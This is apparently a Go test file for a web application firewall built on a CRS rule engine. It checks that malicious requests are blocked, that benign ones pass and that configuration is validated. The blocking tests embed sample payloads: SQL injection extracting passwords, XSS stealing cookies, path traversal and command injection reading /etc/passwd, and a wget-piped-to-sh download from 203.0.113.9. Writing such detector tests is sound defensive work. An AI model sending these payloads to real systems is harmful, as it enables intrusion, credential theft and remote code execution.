package waf

import (
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"testing"
)

var (
	engineOnce sync.Once
	engine     *Engine
	engineErr  error
)

// testEngine is one CRS engine at paranoia 1 shared by the tests of this
// package: loading the rules takes about a second.
func testEngine(t testing.TB) *Engine {
	t.Helper()
	engineOnce.Do(func() { engine, engineErr = NewEngine(Config{Mode: ModeBlocking}) })
	if engineErr != nil {
		t.Fatal(engineErr)
	}
	return engine
}

func get(uri string) *Request {
	return &Request{Method: "GET", URI: uri, Proto: "HTTP/1.1", Host: "api.example.com", ClientIP: "203.0.113.7", ClientPort: 40000,
		Header: http.Header{"User-Agent": {"Mozilla/5.0 (X11; Linux x86_64) Firefox/128.0"}, "Accept": {"application/json"}}}
}

func post(uri, ctype, body string) *Request {
	r := get(uri)
	r.Method = "POST"
	r.Header.Set("Content-Type", ctype)
	r.Header.Set("Content-Length", strconv.Itoa(len(body)))
	r.Body = []byte(body)
	return r
}

func TestEngineBlocksAttacks(t *testing.T) {
	e := testEngine(t)
	q := url.QueryEscape
	tests := []struct {
		name string
		req  *Request
	}{
		{"a union-based SQL injection in the query is blocked", get("/api/items?id=" + q("1 UNION SELECT username, password FROM users--"))},
		{"a tautology SQL injection is blocked", get("/api/login?user=" + q("admin' OR '1'='1"))},
		{"a script tag in the query is blocked", get("/api/search?q=" + q("<script>alert(document.cookie)</script>"))},
		{"an event handler XSS is blocked", get("/api/search?q=" + q(`<img src=x onerror=alert(1)>`))},
		{"a path traversal to /etc/passwd is blocked", get("/api/files?name=" + q("../../../../etc/passwd"))},
		{"a command injection is blocked", get("/api/ping?host=" + q("127.0.0.1; cat /etc/passwd"))},
		{"a command substitution is blocked", get("/api/ping?host=" + q("$(whoami)"))},
		{"a piped shell download is blocked", get("/api/ping?host=" + q("x;wget http://203.0.113.9/x.sh|sh"))},
		{"a SQL injection in a form body is blocked", post("/api/login", "application/x-www-form-urlencoded", "user="+q("x' UNION SELECT 1,2,3--")+"&pass=x")},
		{"an XSS in a JSON body is blocked", post("/api/comments", "application/json", `{"text":"<script>alert(1)</script>"}`)},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := e.Evaluate(tt.req)
			if err != nil {
				t.Fatal(err)
			}
			if !res.Blocked || res.Status != http.StatusForbidden || res.Matched == 0 {
				t.Errorf("result %+v; want blocked with 403 and matched rules", res)
			}
		})
	}
}

func TestEngineLetsBenignRequestsThrough(t *testing.T) {
	e := testEngine(t)
	tests := []struct {
		name string
		req  *Request
	}{
		{"a plain GET with an id passes", get("/api/v1/items/42?page=2&sort=name")},
		{"a search for ordinary words passes", get("/api/search?q=" + url.QueryEscape("red running shoes size 42"))},
		{"a JSON body with prose passes", post("/api/comments", "application/json", `{"text":"Thanks, the delivery was quick and the select menu works fine."}`)},
		{"a form login passes", post("/api/login", "application/x-www-form-urlencoded", "user=alice&pass=correct-horse-battery")},
		{"an e-mail address in the query passes", get("/api/users?email=alice%40example.com")},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			res, err := e.Evaluate(tt.req)
			if err != nil {
				t.Fatal(err)
			}
			if res.Blocked || res.Matched != 0 {
				t.Errorf("result %+v; want no rule matched", res)
			}
		})
	}
}

func TestConfigValidate(t *testing.T) {
	tests := []struct {
		name string
		cfg  Config
		want string
	}{
		{"no WAF is valid", Config{}, ""},
		{"blocking mode with defaults is valid", Config{Mode: ModeBlocking}, ""},
		{"an unknown mode lists the choices", Config{Mode: "block"}, "use blocking"},
		{"a paranoia level above 4 is refused", Config{Mode: ModeDetect, Paranoia: 5}, "levels 1 to 4"},
		{"settings without a mode are refused", Config{Paranoia: 2}, "without a mode"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			err := tt.cfg.WithDefaults().Validate()
			if (tt.want == "") != (err == nil) || err != nil && !strings.Contains(err.Error(), tt.want) {
				t.Errorf("error %v; want one containing %q", err, tt.want)
			}
		})
	}
}

func TestEnginesShareEqualSettings(t *testing.T) {
	var s Engines
	a, err := s.Get(Config{Mode: ModeBlocking})
	if err != nil {
		t.Fatal(err)
	}
	b, err := s.Get(Config{Mode: ModeDetect, Paranoia: 1, AnomalyThreshold: 5})
	if err != nil {
		t.Fatal(err)
	}
	if a != b || s.Len() != 1 {
		t.Errorf("two routes with the same rules got %d engines; want one shared", s.Len())
	}
}

// BenchmarkEvaluate measures the WAF on a typical API request: a GET with
// a query and browser headers, and a POST with a small JSON body.
func BenchmarkEvaluate(b *testing.B) {
	e := testEngine(b)
	b.Run("GET", func(b *testing.B) {
		req := get("/api/v1/items/42?page=2&sort=name")
		req.Header.Set("Accept-Language", "en-GB,en;q=0.9")
		req.Header.Set("Cookie", "session=3f2b8c1e9a4d4c6e")
		b.ReportAllocs()
		for b.Loop() {
			if _, err := e.Evaluate(req); err != nil {
				b.Fatal(err)
			}
		}
	})
	b.Run("POST_JSON", func(b *testing.B) {
		req := post("/api/v1/orders", "application/json", `{"item":42,"quantity":2,"note":"leave at the door","address":{"street":"1 Main St","city":"Springfield"}}`)
		b.ReportAllocs()
		for b.Loop() {
			if _, err := e.Evaluate(req); err != nil {
				b.Fatal(err)
			}
		}
	})
}

func TestEngineCountsAttacksNotHygiene(t *testing.T) {
	r := get("/api/v1/items/42?page=2")
	r.Host = "127.0.0.1:8080" // 920350, a warning: the anomaly score rises, the count does not
	res, err := testEngine(t).Evaluate(r)
	if err != nil {
		t.Fatal(err)
	}
	if res.Matched != 0 || res.Blocked {
		t.Errorf("result %+v; want a numeric Host neither counted nor blocked", res)
	}
}
